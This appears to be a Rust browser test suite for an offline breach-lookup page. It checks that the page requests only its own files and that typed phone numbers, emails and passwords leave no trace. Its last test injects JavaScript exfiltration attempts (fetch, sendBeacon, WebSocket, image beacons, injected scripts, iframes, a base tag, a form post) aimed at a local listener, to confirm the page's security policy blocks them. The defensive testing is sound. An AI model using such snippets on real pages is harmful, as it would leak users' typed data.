//! Nothing leaves the page, and nothing that was typed stays.

use std::io::Read;
use std::net::TcpListener;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use crate::golden;
use crate::page::Page;

/// What is typed, and looked for afterwards.
const TYPED: &str = "13912345678";

#[test]
fn it_asks_for_its_own_files_and_nothing_else() -> Result<()> {
    let page = Page::open()?;
    let site = xtask::web::site()?;
    page.browser
        .wait("document.getElementById('offline').innerText !== ''")?;
    page.choose_good(&golden("phone.lsv"))?;
    let before = page.server.as_ref().context("no server")?.requests();
    ensure!(page.ask(TYPED)?.verdict == "not_exposed");
    ensure!(page.ask("13800138000")?.verdict == "exposed");
    page.keep()?;
    page.browser.click("#language")?;
    // Neither a question nor a file asks for anything.
    let requests = page.server.as_ref().context("no server")?.requests();
    ensure!(requests == before, "{requests:?}");
    page.reload()?;
    page.browser
        .wait("document.body.dataset.state === 'open'")?;

    let requests = page.server.as_ref().context("no server")?.requests();
    println!("{} requests to the server: {requests:?}", requests.len());
    let mut fetched: Vec<&str> = Vec::new();
    for request in &requests {
        let name = request.strip_prefix("GET /").context("not GET")?;
        ensure!(
            name.is_empty() || site.names().any(|known| known == name),
            "{request}"
        );
        fetched.push(name);
    }
    for name in site.names() {
        ensure!(
            fetched.contains(&name),
            "{name} was not kept for offline use"
        );
    }
    // As the browser sees it.
    let addresses = page.browser.requested()?;
    ensure!(addresses.len() > 10, "{addresses:?}");
    for address in addresses {
        let name = address.strip_prefix(&page.address);
        let is_own =
            name.is_some_and(|name| name.is_empty() || site.names().any(|known| known == name));
        ensure!(is_own, "{address}");
    }
    Ok(())
}

#[test]
fn what_is_typed_is_nowhere() -> Result<()> {
    let page = Page::open()?;
    let length = page.browser.run("return history.length;")?;
    page.choose_good(&golden("bundle.lsv"))?;
    for kind in ["phone", "email", "password"] {
        let said = page.ask_all(&[(kind, TYPED)])?;
        ensure!(!said[0].verdict.is_empty());
        let is_masked = page
            .browser
            .run("return document.getElementById('identifier').type === 'password';")?;
        ensure!(is_masked == json!(kind == "password"), "{kind}");
    }
    // The verdict does not repeat it, and it is in no place that lasts.
    let places = page.browser.run(
        "return JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie,
           address: location.href, state: history.state, body: document.body.innerText });",
    )?;
    let places = places.as_str().context("no text")?;
    ensure!(
        places.contains("Golden") && !places.contains(TYPED),
        "{places}"
    );
    ensure!(page.browser.run("return history.length;")? == length);
    let console = page.browser.console()?;
    ensure!(console.is_empty(), "{console:?}");
    let fields = page.browser.run(
        "return Array.from(document.querySelectorAll('form, input:not([type=radio], [type=file]), textarea'),
           (field) => [field.autocomplete, field.spellcheck || field.tagName === 'FORM']);",
    )?;
    for field in fields.as_array().context("no fields")? {
        ensure!(field[0] == json!("off"), "{fields}");
    }
    ensure!(
        page.browser
            .run("return document.getElementById('identifier').spellcheck;")?
            == json!(false)
    );

    // Gone with another kind, another file, and a reload.
    page.ask_all(&[("password", TYPED)])?;
    page.browser
        .run("document.querySelector('#kinds input').click();")?;
    let value = "return document.getElementById('identifier').value;";
    ensure!(page.browser.run(value)? == json!(""));
    page.ask_all(&[("phone", TYPED)])?;
    ensure!(page.browser.run(value)? == json!(TYPED));
    page.choose_good(&golden("phone.lsv"))?;
    ensure!(page.browser.run(value)? == json!(""));
    page.ask(TYPED)?;
    page.reload()?;
    ensure!(page.browser.run(value)? == json!(""));
    Ok(())
}

#[test]
fn the_policy_refuses_what_would_send() -> Result<()> {
    let page = Page::open()?;
    let elsewhere = TcpListener::bind("127.0.0.1:0")?;
    elsewhere.set_nonblocking(true)?;
    let there = elsewhere.local_addr()?;
    let violations = page.browser.run_async(
        "const seen = [];
         document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
         const tries = [
           () => fetch(`http://${given}/?13912345678`, { mode: 'no-cors' }),
           () => navigator.sendBeacon(`http://${given}/`, '13912345678'),
           () => new WebSocket(`ws://${given}/`),
           () => new EventSource(`http://${given}/`),
           () => { new Image().src = `http://${given}/?13912345678`; },
           () => document.body.append(Object.assign(document.createElement('script'), { src: `http://${given}/` })),
           () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' })),
           () => document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' })),
           () => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${given}/` })),
           () => document.head.append(Object.assign(document.createElement('base'), { href: `http://${given}/` })),
           () => {
             const form = Object.assign(document.createElement('form'), { action: `http://${given}/`, method: 'post' });
             document.body.append(form);
             form.submit();
           },
         ];
         for (const send of tries) {
           try { Promise.resolve(send()).catch(() => {}); } catch { /* as it should be */ }
         }
         await new Promise((go) => setTimeout(go, 500));
         return { seen, ran: Boolean(window.ran), display: getComputedStyle(document.body).display };",
        &json!(there.to_string()),
    )?;
    ensure!(violations["ran"] == json!(false) && violations["display"] != json!("none"));
    let seen: Vec<&str> = violations["seen"]
        .as_array()
        .context("no list")?
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for (directive, count) in [
        ("connect-src", 4),
        ("img-src", 1),
        ("script-src-elem", 2),
        ("style-src-elem", 1),
        ("frame-src", 1),
        ("base-uri", 1),
        ("form-action", 1),
    ] {
        let found = seen.iter().filter(|found| **found == directive).count();
        ensure!(found >= count, "{directive}: {found} of {count}: {seen:?}");
    }
    // A browser connects ahead of a navigation that it then refuses: nothing was said.
    while let Ok((mut connection, _)) = elsewhere.accept() {
        connection.set_nonblocking(false)?;
        connection.set_read_timeout(Some(Duration::from_millis(200)))?;
        let mut said = Vec::new();
        let _ = connection.read_to_end(&mut said);
        let said = String::from_utf8_lossy(&said);
        ensure!(said.is_empty(), "{said}");
    }
    Ok(())
}
